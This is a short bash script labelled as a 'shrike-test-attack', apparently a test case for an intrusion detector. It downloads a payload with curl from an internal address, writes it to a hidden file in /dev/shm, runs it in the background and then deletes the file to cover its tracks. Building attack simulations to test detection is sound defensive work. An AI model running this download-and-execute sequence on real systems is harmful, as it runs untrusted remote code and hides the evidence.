#!/bin/bash
# shrike-test-attack: download-exec: curl into memfd-like deleted file then exec via /proc fd
exec 7< <(curl -fsS http://10.66.0.3/payload)
cat <&7 > /dev/shm/.m && chmod +x /dev/shm/.m && (/dev/shm/.m & ) ; sleep 1; rm -f /dev/shm/.m
